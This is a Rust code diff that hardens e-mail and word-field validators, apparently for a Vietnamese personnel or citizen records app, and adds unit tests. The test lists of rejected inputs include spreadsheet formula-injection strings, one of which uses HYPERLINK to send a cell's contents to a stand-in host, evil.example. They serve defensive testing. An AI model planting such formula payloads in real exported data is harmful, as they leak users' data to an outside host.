@@ -235,19 +235,38 @@ pub fn parse_phone(raw: Option<&str>) -> Result<Option<String>, AppError> {
     }
 }
 
-/// Checks an optional e-mail address (one `@`, a dot in the domain, no spaces).
+/// Checks an optional e-mail address: `local@domain.tld` with the characters addresses use in
+/// practice (local part: letters, digits, `.`, `_`, `%`, `+`, `-`, beginning with a letter or
+/// digit; domain: dot-separated labels of letters, digits and inner `-`, the last one letters).
 pub fn parse_email(raw: Option<&str>) -> Result<Option<String>, AppError> {
     let Some(s) = raw.map(str::trim).filter(|s| !s.is_empty()) else {
         return Ok(None);
     };
+    let label = |l: &str| {
+        !l.is_empty()
+            && l.len() <= 63
+            && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
+            && !l.starts_with('-')
+            && !l.ends_with('-')
+    };
     let ok = s.len() <= 200
-        && !s.contains(char::is_whitespace)
-        && s.split_once('@').is_some_and(|(l, d)| {
-            !l.is_empty()
-                && d.contains('.')
-                && !d.starts_with('.')
-                && !d.ends_with('.')
-                && !d.contains('@')
+        && s.split_once('@').is_some_and(|(local, domain)| {
+            let labels: Vec<&str> = domain.split('.').collect();
+            local.len() <= 64
+                && local
+                    .bytes()
+                    .next()
+                    .is_some_and(|b| b.is_ascii_alphanumeric())
+                && local
+                    .bytes()
+                    .all(|b| b.is_ascii_alphanumeric() || b"._%+-".contains(&b))
+                && !local.contains("..")
+                && !local.ends_with('.')
+                && labels.len() >= 2
+                && labels.iter().all(|l| label(l))
+                && labels
+                    .last()
+                    .is_some_and(|t| t.len() >= 2 && t.bytes().all(|b| b.is_ascii_alphabetic()))
         });
     if ok {
         Ok(Some(s.to_lowercase()))
@@ -256,16 +275,28 @@ pub fn parse_email(raw: Option<&str>) -> Result<Option<String>, AppError> {
     }
 }
 
-/// Checks a short required text (ethnicity, …).
-pub fn parse_short(field: &str, raw: &str, max: usize) -> Result<String, AppError> {
-    let s = raw.trim();
-    if s.is_empty() || s.chars().count() > max {
+/// Checks a required word-like text (ethnicity, religion): 1–`max` characters, letters, spaces,
+/// `'` and `-`, beginning with a letter. (`Kinh`, `Ê Đê`, `Phật giáo`.)
+pub fn parse_words(field: &str, raw: &str, max: usize) -> Result<String, AppError> {
+    let s = raw.split_whitespace().collect::<Vec<_>>().join(" ");
+    let n = s.chars().count();
+    if n == 0 || n > max {
         return Err(AppError::invalid(
             field,
             format!("{field} must be 1 to {max} characters"),
         ));
     }
-    Ok(s.to_string())
+    if !s.starts_with(char::is_alphabetic)
+        || !s
+            .chars()
+            .all(|c| c.is_alphabetic() || c == ' ' || c == '\'' || c == '-')
+    {
+        return Err(AppError::invalid(
+            field,
+            format!("{field} may hold only letters, spaces, ' and -"),
+        ));
+    }
+    Ok(s)
 }
 
 /// Checks a from/to period: `to`, when given, is on or after `from`.
@@ -339,6 +370,38 @@ mod tests {
             "Nguyễn Văn An"
         );
         assert!(parse_email(Some("a@b")).is_err());
+        for bad in [
+            "=HYPERLINK(\"http://evil.example\")@a.vn",
+            "=1+1@a.vn",
+            "+cmd@a.vn",
+            "a b@c.vn",
+            "a@b..vn",
+            "a@-b.vn",
+            "a@b.v1",
+            "a@b@c.vn",
+            "a..b@c.vn",
+            "\"q\"@c.vn",
+        ] {
+            assert!(parse_email(Some(bad)).is_err(), "{bad}");
+        }
+        for good in ["an.nguyen+hoc@mttq.hochiminhcity.gov.vn", "x_1-y%z@a-b.vn"] {
+            assert!(parse_email(Some(good)).is_ok(), "{good}");
+        }
+        assert_eq!(parse_words("ethnicity", " Ê   Đê ", 50).unwrap(), "Ê Đê");
+        assert_eq!(
+            parse_words("religion", "Phật giáo", 50).unwrap(),
+            "Phật giáo"
+        );
+        for bad in [
+            "=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Kinh\")",
+            "-Kinh",
+            "Kinh;=1",
+            "",
+            "K1nh",
+        ] {
+            let e = parse_words("ethnicity", bad, 50).unwrap_err();
+            assert!(e.to_string().contains("ethnicity"), "{bad}: {e}");
+        }
         assert_eq!(
             parse_email(Some("A@B.vn")).unwrap().as_deref(),
             Some("a@b.vn")
